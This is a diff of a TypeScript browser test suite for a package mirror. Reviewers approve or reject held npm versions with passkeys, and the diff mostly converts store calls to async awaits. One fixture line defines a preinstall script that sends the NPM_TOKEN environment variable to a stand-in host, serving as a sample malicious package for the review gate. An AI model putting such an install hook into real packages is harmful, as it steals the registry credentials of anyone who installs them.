@@ -24,10 +24,10 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
   let bob: KeyedApprover;
   let aliceAt: Person;
   let bobAt: Person;
-  const snapshot = (name: string, version: string) => ({
-    version: web.m.mirror.runtime.store.versionOf(name, version),
-    decisions: web.m.mirror.runtime.approvals.decisionsOf(name, version),
-    head: web.m.mirror.runtime.store.auditLog.head(),
+  const snapshot = async (name: string, version: string) => ({
+    version: (await web.m.mirror.runtime.store.versions.versionOf(name, version)),
+    decisions: (await web.m.mirror.runtime.approvals.decisionsOf(name, version)),
+    head: (await web.m.mirror.runtime.store.audit.head()),
   });
   const review = (p: Person, name: string, version: string) => p.page.goto(`${web.url}-/cordon/packages/${name}/${version}`);
   /** Fills the decision form, shows the statement and signs it with the person's passkey. */
@@ -59,7 +59,7 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     await Promise.all(['native-thing', 'other-thing', 'slow-thing'].map((n) => web.sight(n)));
     for (const n of ['native-thing@1.1.0', 'other-thing@2.0.0', 'slow-thing@1.1.0']) {
       const [name, version] = n.split('@') as [string, string];
-      assert.equal(web.m.mirror.runtime.store.versionOf(name, version)?.state, 'held', `${n} is held`);
+      assert.equal((await web.m.mirror.runtime.store.versions.versionOf(name, version))?.state, 'held', `${n} is held`);
     }
     browser = await launchBrowser();
     aliceAt = await person(browser);
@@ -92,7 +92,7 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     const list = await web.cli(['passkey', 'list', '--json']);
     const passkeys = JSON.parse(list.stdout).passkeys as Array<{ approver: string; status: string }>;
     assert.deepEqual(passkeys.map((p) => [p.approver, p.status]), [['alice', 'active'], ['bob', 'active']]);
-    const enrolled = web.m.mirror.runtime.store.auditOf('-').filter((e) => e.cause === 'passkey-enrolled');
+    const enrolled = (await web.m.mirror.runtime.store.audit.ofPackage('-')).filter((e) => e.cause === 'passkey-enrolled');
     assert.equal(enrolled.length, 2);
     assert.match(String(enrolled[0]!.detail!.signature), /BEGIN SSH SIGNATURE/, 'the SSH-signed request is in the audit log');
   });
@@ -104,7 +104,7 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     assert.match(first, /Accepted: 1 of 2 approvals/);
     await review(bobAt, 'native-thing', '1.1.0');
     assert.match(await sign(bobAt, 'bob', 'approve', 'agreed'), /is now approved/);
-    const decisions = web.m.mirror.runtime.approvals.decisionsOf('native-thing', '1.1.0');
+    const decisions = (await web.m.mirror.runtime.approvals.decisionsOf('native-thing', '1.1.0'));
     assert.deepEqual(decisions.map((d) => [d.approver, d.method]), [['alice', 'webauthn'], ['bob', 'webauthn']]);
     // One approver counts once whichever way they sign: alice's SSH key cannot add a second approval.
     web.upstream.publish('native-thing', '1.2.0', { time: NOW - HOUR, scripts: { postinstall: 'node build.js', preinstall: 'node fetch.js' }, files: { 'build.js': "require('child_process').execSync('true');\n", 'fetch.js': "require('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n" } });
@@ -131,17 +131,17 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     await bobAt.page.click('#prepare');
     await bobAt.page.getByText('A rejection needs a reason').waitFor();
     assert.match(await sign(bobAt, 'bob', 'reject', 'pipes a download into sh'), /is now rejected/);
-    const d = web.m.mirror.runtime.approvals.decisionsOf('other-thing', '2.0.0');
+    const d = (await web.m.mirror.runtime.approvals.decisionsOf('other-thing', '2.0.0'));
     assert.deepEqual(d.map((x) => [x.decision, x.method, JSON.parse(x.statement).reason]), [['reject', 'webauthn', 'pipes a download into sh']]);
-    assert.equal(web.m.mirror.runtime.store.versionOf('other-thing', '2.0.0')?.state, 'rejected');
+    assert.equal((await web.m.mirror.runtime.store.versions.versionOf('other-thing', '2.0.0'))?.state, 'rejected');
   });
 
   test('an expired statement is refused with its error and changes nothing', async () => {
     await review(aliceAt, 'slow-thing', '1.1.0');
-    const before = snapshot('slow-thing', '1.1.0');
+    const before = await snapshot('slow-thing', '1.1.0');
     const out = await sign(aliceAt, 'alice', 'approve', 'looked', async () => web.clock.advance(11 * 60_000));
     assert.match(out, /\[STATEMENT_EXPIRED\]/);
-    assert.deepEqual(snapshot('slow-thing', '1.1.0'), before);
+    assert.deepEqual(await snapshot('slow-thing', '1.1.0'), before);
   });
 
   test('an assertion from an approver removed from the config is refused and changes nothing', async () => {
@@ -154,11 +154,11 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     // The operator removes alice while her statement is on screen.
     await web.stop();
     await web.start([bob], { quorum: { critical: 2, high: 2 } });
-    const before = snapshot('slow-thing', '1.1.0');
+    const before = await snapshot('slow-thing', '1.1.0');
     await aliceAt.page.click('#sign');
     await aliceAt.page.locator('#decide-status .notice.error').waitFor();
     assert.match((await aliceAt.page.locator('#decide-status').textContent()) ?? '', /no longer an approver.*\[UNKNOWN_SIGNER\]/);
-    assert.deepEqual(snapshot('slow-thing', '1.1.0'), before);
+    assert.deepEqual(await snapshot('slow-thing', '1.1.0'), before);
     const list = JSON.parse((await web.cli(['passkey', 'list', '--json'])).stdout).passkeys as Array<{ approver: string; status: string }>;
     assert.deepEqual(list.map((p) => [p.approver, p.status]), [['alice', 'approver-removed'], ['bob', 'active']]);
   });
@@ -196,7 +196,7 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
       assert.match((await p.page.locator('#statement').textContent()) ?? '', /"approver":"bob".*"reason":"read the gyp file"/);
       await p.page.keyboard.press('Enter');
       await p.page.getByText('Accepted: 1 of 2 approvals').waitFor();
-      assert.deepEqual(web.m.mirror.runtime.approvals.decisionsOf('slow-thing', '1.1.0').map((d) => [d.approver, d.method]), [['bob', 'webauthn']]);
+      assert.deepEqual((await web.m.mirror.runtime.approvals.decisionsOf('slow-thing', '1.1.0')).map((d) => [d.approver, d.method]), [['bob', 'webauthn']]);
     } finally {
       await p.context.close();
     }
